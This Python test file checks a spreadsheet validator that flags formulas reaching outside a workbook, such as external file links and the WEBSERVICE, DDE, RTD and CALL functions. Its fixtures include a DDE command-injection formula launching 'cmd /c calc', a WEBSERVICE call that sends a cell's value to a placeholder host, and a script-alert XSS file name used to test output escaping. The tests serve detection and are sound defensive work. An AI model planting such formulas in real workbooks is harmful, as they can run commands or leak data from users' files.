"""What formulas take from outside the workbook, told by their text alone and by the workbook around them."""

from __future__ import annotations

import json
import zipfile
from io import BytesIO
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from openpyxl import load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from support.command_line import korrektur
from support.package_changes import package_after
from support.workbooks import corrected_package

from workbook.reading.calls_out import outside

if TYPE_CHECKING:
    from collections.abc import Callable

FIELD = Path(__file__).parents[4] / "shared/field/workbooks"
LINKED = {
    "parts": {
        "xl/externalLinks/externalLink1.xml": {
            "kind": "externalLink",
            "text": "<externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'/>",
            "leads_to": "file:///H:/Budget/Licenser%202025.xlsx",
        }
    }
}

CALLS = {
    'WEBSERVICE("https://x/"&A1)': "WEBSERVICE",
    'IFERROR(_xlfn.FILTERXML(A1,"//x"),0)': "FILTERXML",
    "cmd|'/c calc'!A0": "DDE",
    'DDE("soffice","a","b")': "DDE",
    'rtd("prog",,"x")': "RTD",
    'CALL("kernel32","x","J")': "CALL",
    'REGISTER.ID("a","b")': "REGISTER.ID",
    '_xlfn._xlws.IMAGE("https://x/y.png")': "IMAGE",
    "1+webservice (A1)": "WEBSERVICE",
}
FILES = {
    "[1]Ark1!A1": "1",
    "SUM(A1,[2]Ark1!$A$1:$B$4)": "2",
    "'[1]Ark 1'!A1*2": "1",
    "[1]!Kurs": "1",
    "[Bog2.xlsx]Ark1!A1": "Bog2.xlsx",
    "'C:\\Mine filer\\[Bog 3.xlsx]Ark 1'!B2": "Bog 3.xlsx",
    "'file:///H:/Bog%204.ods'#$Ark1.A1": "Bog 4.ods",
    "'H:\\Bog5.xlsx'!Kurs": "Bog5.xlsx",
}
SILENT = [
    'HYPERLINK("https://x/","y")',
    '"WEBSERVICE("&"cmd|x"&"[1]Ark1!A1"',
    "Beløb[[#This Row],[2026]]+Beløb[2027]",
    "SUM(Beløb[[2026]:[2029]])",
    "'Mit ark'!A1",
    "[0]!Kurs",
    "SUM(Tal[calc='#*'#])",
    "RECALL(A1)+MITCALL(A1)+Ark.CALL!A1",
    "#REF!+Ark1!#REF!",
]


@pytest.mark.parametrize(("formula", "what"), CALLS.items())
def test_a_function_that_calls_out_is_known(formula: str, what: str) -> None:
    assert outside(formula) == (("call", what),)


@pytest.mark.parametrize(("formula", "what"), FILES.items())
def test_another_file_is_known_by_its_name_or_its_number(formula: str, what: str) -> None:
    assert outside(formula) == (("file", what),)


@pytest.mark.parametrize("formula", SILENT)
def test_what_stays_in_the_workbook_is_silent(formula: str) -> None:
    assert outside(formula) == ()


def test_long_formulas_are_read_in_linear_time() -> None:
    for piece in ("'", '"', "[", "[a", "a.", "[a]", "'[", "CALL "):
        assert outside(piece * (8000 // len(piece))) == ()


def book(folder: Path, change: Callable[[Any], None], package: bytes | None = None) -> Path:
    workbook = load_workbook(BytesIO(package or corrected_package()))
    change(workbook)
    path = folder / "a.xlsx"
    workbook.save(path)
    return path


def found(path: Path) -> list[tuple[str, str | None, str | None, str]]:
    said = korrektur("validate", path, "--format", "json", "--select", "ARK123,ARK131").out
    (file,) = json.loads(said)["files"]
    return [(one["rule"], one["sheet"], one["cell"], one["found"]) for one in file["findings"]]


def own_sheet(workbook: Any, formula: str) -> None:
    workbook.create_sheet("Egne")["B2"] = formula


def input_cell(workbook: Any, formula: str) -> None:
    workbook["Beløb"]["H4"] = formula


def drop_down(workbook: Any, formula: str) -> None:
    rule = DataValidation(type="custom", formula1=formula.removeprefix("="))
    rule.add("B2:B9")
    workbook.create_sheet("Egne").add_data_validation(rule)


def conditional_format(workbook: Any, formula: str) -> None:
    new_rule: Any = FormulaRule
    rule = new_rule(formula=[formula.removeprefix("=")], fill=PatternFill("solid", bgColor="FF0000"))
    workbook.create_sheet("Egne").conditional_formatting.add("B2:B9", rule)


def defined_name(workbook: Any, formula: str) -> None:
    workbook.defined_names["Kurs"] = DefinedName("Kurs", attr_text=formula.removeprefix("="))


@pytest.mark.parametrize(
    ("put", "sheet", "cell"),
    [
        (own_sheet, "Egne", "B2"), (input_cell, "Beløb", "H4"), (drop_down, "Egne", "B2"),
        (conditional_format, "Egne", "B2"), (defined_name, None, None),
    ],
)  # fmt: skip
def test_it_is_found_wherever_it_stands(put: Callable[..., None], sheet: str, cell: str, tmp_path: Path) -> None:
    path = book(tmp_path, lambda workbook: put(workbook, '=WEBSERVICE("x")=1'))
    assert found(path) == [("ARK123", sheet, cell, "WEBSERVICE")]


def test_many_cells_of_a_sheet_are_one_finding_that_names_the_first(tmp_path: Path) -> None:
    def change(workbook: Any) -> None:
        sheet = workbook.create_sheet("Egne")
        for row in range(1, 9):
            sheet[f"A{row}"] = '=WEBSERVICE("x")'

    path = book(tmp_path, change)
    assert found(path) == [("ARK123", "Egne", "A1", "WEBSERVICE")]
    assert "(også A2, A3, A4 og 4 andre steder)" in korrektur("validate", path, "--format", "concise").out


def test_a_link_that_no_cell_uses_says_so(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(package_after(corrected_package(), LINKED))
    assert found(path) == [("ARK131", None, None, "Licenser 2025.xlsx")]
    assert "Ingen formel bruger den." in korrektur("validate", path, "--format", "concise").out


def test_the_cells_of_a_link_are_named_on_every_sheet(tmp_path: Path) -> None:
    def change(workbook: Any) -> None:
        own_sheet(workbook, "=[1]Ark1!A1")
        input_cell(workbook, "=[1]Ark1!A2")

    path = book(tmp_path, change)
    path.write_bytes(package_after(path.read_bytes(), LINKED))
    assert found(path) == [("ARK131", "Beløb", "H4", "Licenser 2025.xlsx")]
    assert "Formlen bruger den (også Egne!B2)." in korrektur("validate", path, "--format", "concise").out


def test_a_link_by_dde_names_the_program_and_the_cell(tmp_path: Path) -> None:
    text = (
        "<externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>"
        "<ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
    )
    part = {"xl/externalLinks/externalLink1.xml": {"kind": "externalLink", "text": text}}
    path = book(tmp_path, lambda workbook: own_sheet(workbook, "=[1]!A0"))
    path.write_bytes(package_after(path.read_bytes(), {"parts": part}))
    assert found(path) == [("ARK131", "Egne", "B2", "cmd (DDE)")]


def test_a_check_in_the_form_of_excels_extension_is_read(tmp_path: Path) -> None:
    """Excel writes a drop-down that looks at another sheet as an extension, its cells after its formula."""
    extension = (
        '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
        'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
        '<x14:dataValidations count="1" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        '<x14:dataValidation type="custom"><x14:formula1><xm:f>RTD("a",,"b")=1</xm:f></x14:formula1>'
        "<xm:sqref>C7</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>"
    )
    path = book(tmp_path, lambda workbook: own_sheet(workbook, "tekst"))
    sheet = f"xl/worksheets/sheet{len(load_workbook(path).sheetnames)}.xml"
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    parts[sheet] = parts[sheet].replace(b"</worksheet>", extension.encode() + b"</worksheet>")
    with zipfile.ZipFile(path, "w") as package:
        for name, content in parts.items():
            package.writestr(name, content)
    assert found(path) == [("ARK123", "Egne", "C7", "RTD")]


@pytest.mark.parametrize("form", ["text", "html", "csv", "github", "junit"])
def test_the_name_of_a_file_is_written_harmlessly(form: str, tmp_path: Path) -> None:
    evil = "file:///H:/%3Cscript%3Ealert(1)%3C%2Fscript%3E%1b[31m.xlsx"
    links = {"parts": {name: part | {"leads_to": evil} for name, part in LINKED["parts"].items()}}
    path = tmp_path / "a.xlsx"
    path.write_bytes(package_after(corrected_package(), links))
    said = korrektur("validate", path, "--format", form).out
    assert "\x1b" not in said
    assert form not in ("html", "junit") or "<script>alert" not in said


@pytest.mark.skipif(not FIELD.is_dir(), reason="the inputs of ../shared/field are not here")
def test_the_linked_cell_of_a_workbook_that_somebody_had_is_named(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes((FIELD / "external-link-no-cell.xlsx").read_bytes())
    assert found(path) == [("ARK131", "Beløb", "I6", "grundlag.xlsx")]
